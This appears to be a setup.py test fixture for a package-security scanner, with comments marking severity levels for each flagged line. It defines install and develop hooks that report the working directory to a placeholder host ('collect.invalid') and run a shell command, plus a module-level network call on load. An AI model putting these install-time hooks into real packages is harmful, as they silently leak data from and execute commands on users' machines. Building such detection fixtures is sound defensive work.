import os
import urllib.request

from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install as base


class Post(base):  # HIT[critical]
    def run(self):
        base.run(self)
        urllib.request.urlopen("http://collect.invalid/" + os.getcwd())


class Dev(develop):  # HIT[high]
    def run(self):
        os.system("id")


class Quiet(base):  # HIT[low]
    def run(self):
        print("hello")


urllib.request.urlopen("http://collect.invalid")  # HIT[high]
setup(name="x", cmdclass={"install": Post, "develop": Dev})
